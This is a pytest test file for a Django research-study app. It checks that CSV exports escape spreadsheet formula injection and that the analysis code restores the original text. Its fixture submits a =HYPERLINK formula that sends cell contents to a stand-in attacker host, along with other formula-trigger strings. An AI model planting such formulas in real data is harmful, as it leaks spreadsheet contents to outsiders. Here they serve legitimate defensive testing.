"""CSV exports against spreadsheet formula injection (Contract 4): a text cell starting with
= + - @ tab or CR goes out with a leading ', and the analysis reads the original text back.
Answers typed by bots through the live flow, exported by the command and the dashboard, read by
``analysis.tidy.read_table``."""

import csv
import io

import pandas as pd
import pytest
from django.core.management import call_command

from analysis import tidy
from studies.exports import tidy_responses
from studies.exports.tidy import safe_for_spreadsheets
from tests.bots import Bot

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Click for the bonus")'
JUSTIFICATIONS = {"legs": HYPERLINK, "color": "+1 the colour changes along the columns",
                  "background": "-2+3 is what I think about the background",
                  "shape": "@SUM(1,2) the shape differs in each column", "rotation":
                  "'=already quoted text, about the rotation"}


@pytest.fixture
def attacker(study, clock):
    bot = Bot(study, clock)
    bot.enter()
    bot.play(stop_at="stimulus")
    form = bot.form()
    data = bot.answer(bot.current_step())
    data.update({f"justification-{k}": v for k, v in JUSTIFICATIONS.items()})
    assert bot.post(data, form).status_code == 302
    bot.play(stop_at="strategy")
    assert bot.post({"answer": "=SUM(A1:A9)", "rt_ms": "100"}).status_code == 302
    return bot


def _cells(text: str) -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    out = {r["item"]: r["justification"] for r in rows if r["item_type"] == "relevance"}
    out["strategy"] = next(r["response"] for r in rows if r["item_type"] == "free_text")
    return out


def test_exported_csv_cells_cannot_run_as_formulas(study, attacker, tmp_path, admin_client):
    call_command("export_responses", study.slug, "--format", "csv", "--out",
                 str(tmp_path / "r.csv"))
    for text in ((tmp_path / "r.csv").read_text(),
                 admin_client.get(f"/dashboard/{study.slug}/download/csv").content.decode()):
        cells = _cells(text)
        assert cells["legs"] == "'" + HYPERLINK
        assert cells["color"].startswith("'+1") and cells["background"].startswith("'-2+3")
        assert cells["shape"].startswith("'@SUM")
        assert cells["rotation"].startswith("''=already")
        assert cells["strategy"] == "'=SUM(A1:A9)"
        assert not any(v.startswith(("=", "+", "-", "@")) for v in cells.values())


def test_the_analysis_reads_the_original_text(study, attacker, tmp_path):
    call_command("export_responses", study.slug, "--format", "csv", "--out",
                 str(tmp_path / "r.csv"))
    read = tidy.read_table(tmp_path / "r.csv")
    mine = read[read["prolific_pid"] == attacker.pid]
    relevance = mine[mine["item_type"] == "relevance"].set_index("item")["justification"]
    assert relevance.to_dict() == JUSTIFICATIONS
    assert mine.loc[mine["item_type"] == "free_text", "response"].tolist() == ["=SUM(A1:A9)"]
    original = tidy_responses(study).astype(str).replace({"<NA>": "", "nan": "", "None": ""})
    assert read["justification"].tolist() == original["justification"].tolist()


def test_every_trigger_and_plain_numbers():
    values = ["=A1", "+A1", "-A1", "@A1", "\tA1", "\rA1", "'=A1", "''+A1", "'plain", "-2",
              "+3.5", "-1e3", "plain", "", None]
    frame = pd.DataFrame({"response": values, "rt_ms": [-5.0] * len(values)})
    safe = safe_for_spreadsheets(frame)
    assert safe["response"].tolist()[:-1] == ["'=A1", "'+A1", "'-A1", "'@A1", "'\tA1",
                                              "'\rA1", "''=A1", "'''+A1", "'plain", "-2",
                                              "+3.5", "-1e3", "plain", ""]
    assert pd.isna(safe["response"].iloc[-1])
    assert safe["rt_ms"].tolist() == [-5.0] * len(values)
    back = tidy.unescape_formulas(safe.fillna(""))
    assert back["response"].tolist() == [v if v is not None else "" for v in values]


def test_other_layouts_are_read_verbatim(tmp_path):
    path = tmp_path / "public.csv"
    path.write_text("subject,answer\ns1,'=kept as written\n")
    assert tidy.read_table(path)["answer"].tolist() == ["'=kept as written"]


def test_an_export_older_than_the_newest_columns_has_its_escapes_undone(study, attacker, tmp_path):
    call_command("export_responses", study.slug, "--format", "csv", "--out",
                 str(tmp_path / "r.csv"))
    older = pd.read_csv(tmp_path / "r.csv", dtype=str, keep_default_na=False).drop(
        columns=["participant_group", "expertise_level", "reference", "scheme", "unit", "block",
                 "pilot", "videos_completed", "gate_failures", "retake_allowed", "selection",
                 "when", "shown"])
    older.to_csv(tmp_path / "older.csv", index=False)
    read = tidy.read_table(tmp_path / "older.csv")
    mine = read[(read["prolific_pid"] == attacker.pid) & (read["item_type"] == "relevance")]
    assert mine.set_index("item")["justification"].to_dict() == JUSTIFICATIONS


def test_the_core_columns_are_contract_4s(tmp_path):
    from studies.export_contract import COLUMN_NAMES

    assert set(tidy.CONTRACT_4_CORE) <= set(COLUMN_NAMES)
